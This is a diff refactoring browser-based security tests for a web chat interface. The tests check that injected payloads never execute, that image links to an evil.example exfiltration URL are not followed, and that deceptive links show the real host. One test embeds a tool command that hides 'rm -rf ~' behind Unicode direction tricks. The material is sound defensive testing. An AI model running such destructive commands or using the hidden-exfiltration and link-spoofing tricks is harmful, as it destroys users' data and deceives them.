@@ -1,23 +1,6 @@
 import type { Page } from "playwright-core";
-import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
-import { type Browser, noBrowser, openChat, ordinary, say, startBrowser } from "./webchat-browser.ts";
-import { type Peer, startPeer } from "./webchat-peer.ts";
-
-const browserTest = test.skipIf(noBrowser !== undefined);
-let browser: Browser;
-let peer: Peer;
-
-beforeAll(async () => {
-  if (!noBrowser) browser = await startBrowser();
-});
-afterAll(async () => {
-  if (!noBrowser) await browser.close();
-});
-afterEach(async () => {
-  if (noBrowser) return;
-  for (const page of browser.context.pages().slice(1)) await page.close();
-  await peer?.stop();
-});
+import { expect } from "vitest";
+import { browser, browserTest, openChat, openPeer, peer, say } from "./webchat-browser.ts";
 
 const run = "window.ran=(window.ran||0)+1";
 const payloads = [
@@ -105,7 +88,6 @@ async function traces(page: Page): Promise<unknown> {
 const clean = { ran: 0, elements: [], handlers: [], links: [] };
 
 browserTest("no payload in a history runs or becomes an element, even without a content policy", async () => {
-  peer = await startPeer({ csp: false });
   const messages = payloads.flatMap((payload, index) => [
     { role: "user", content: [{ type: "text", text: payload }], timestamp: 1 },
     {
@@ -129,7 +111,7 @@ browserTest("no payload in a history runs or becomes an element, even without a 
     },
     { role: "assistant", content: [], stopReason: "error", errorMessage: payload },
   ]);
-  ordinary(peer, messages);
+  await openPeer(messages, { csp: false });
   peer.answers.set("models.default", () => ({
     provider: payloads[0],
     model: payloads[2],
@@ -164,11 +146,10 @@ browserTest("no payload in a history runs or becomes an element, even without a 
 });
 
 browserTest("no payload that streams in, fails or refuses runs either", async () => {
-  peer = await startPeer({ csp: false });
-  ordinary(peer);
-  const page = await openChat(browser, peer);
+  await openPeer([], { csp: false });
+  const page = await openChat();
   for (const payload of payloads) {
-    const stream = await say(page, peer, payload.replaceAll("\n", " "));
+    const stream = await say(page, payload.replaceAll("\n", " "));
     stream.delta(payload.slice(0, 12));
     stream.delta(payload);
     stream.tool({ phase: "start", name: payload, toolCallId: payload, args: payload });
@@ -185,11 +166,10 @@ browserTest("no payload that streams in, fails or refuses runs either", async ()
 });
 
 browserTest("an image is a link that nobody follows, and it says where it leads", async () => {
-  peer = await startPeer();
-  ordinary(peer, [
+  await openPeer([
     { role: "assistant", content: [{ type: "text", text: "![chart](https://evil.example/?q=SECRET)" }] },
   ]);
-  const page = await openChat(browser, peer);
+  const page = await openChat();
   const anchor = page.locator(".text a");
   expect(await anchor.textContent()).toBe("Image: chart");
   expect(await page.locator(".text p").textContent()).toBe("Image: chart (evil.example)");
@@ -197,11 +177,10 @@ browserTest("an image is a link that nobody follows, and it says where it leads"
 });
 
 browserTest("a link whose words name another host shows the real one", async () => {
-  peer = await startPeer();
   const text =
     "[https://bank.example/login](https://evil.example) and [bank.example](https://evil.example) and [here](https://a.example)";
-  ordinary(peer, [{ role: "assistant", content: [{ type: "text", text }] }]);
-  const page = await openChat(browser, peer);
+  await openPeer([{ role: "assistant", content: [{ type: "text", text }] }]);
+  const page = await openChat();
   expect(await page.locator(".text p").textContent()).toBe(
     "https://bank.example/login (evil.example) and bank.example (evil.example) and here",
   );
@@ -210,11 +189,10 @@ browserTest("a link whose words name another host shows the real one", async () 
 browserTest(
   "what a tool is asked to do is shown raw, in full, with hidden characters spelled out",
   async () => {
-    peer = await startPeer();
-    ordinary(peer);
-    const page = await openChat(browser, peer);
+    await openPeer();
+    const page = await openChat();
     const command = `echo **safe** \`ls\` \u202e;fr- mr\u202c a\u200bb \u001b[8mhidden ${"x".repeat(3000)} && rm -rf ~`;
-    const stream = await say(page, peer, "go");
+    const stream = await say(page, "go");
     stream.tool({ phase: "start", name: "exec\u2066", toolCallId: "1", args: { command } });
     await page.locator(".tool summary").click();
     const shown = await page.locator(".tool pre").first().textContent();
@@ -234,7 +212,6 @@ browserTest(
 );
 
 browserTest("markdown becomes what it says", async () => {
-  peer = await startPeer();
   const text = [
     "# Title",
     "A **bold** and *slanted* and ~~gone~~ `code` with snake_case_name and 2 * 3 * 4.",
@@ -246,8 +223,8 @@ browserTest("markdown becomes what it says", async () => {
     "- [ ] open\n- [x] done",
     "x &lt;b&gt; &amp;amp; y<br>z<br/>`&lt;`",
   ].join("\n\n");
-  ordinary(peer, [{ role: "assistant", content: [{ type: "text", text }] }]);
-  const page = await openChat(browser, peer);
+  await openPeer([{ role: "assistant", content: [{ type: "text", text }] }]);
+  const page = await openChat();
   const html = await page.locator(".text").evaluate((node) => {
     for (const element of node.querySelectorAll("*")) {
       for (const name of element.getAttributeNames())
@@ -271,7 +248,6 @@ browserTest("markdown becomes what it says", async () => {
 });
 
 browserTest("a message made to keep the parser busy does not", async () => {
-  peer = await startPeer();
   const shapes = [
     "[",
     "![",
@@ -292,8 +268,8 @@ browserTest("a message made to keep the parser busy does not", async () => {
     "\\",
     "1. ",
   ];
-  ordinary(peer);
-  const page = await openChat(browser, peer);
+  await openPeer();
+  const page = await openChat();
   for (const shape of shapes) {
     const text = JSON.stringify(shape.repeat(Math.ceil(50_000 / shape.length)));
     // Off the page, so that what is measured is the parser and not the browser's layout.
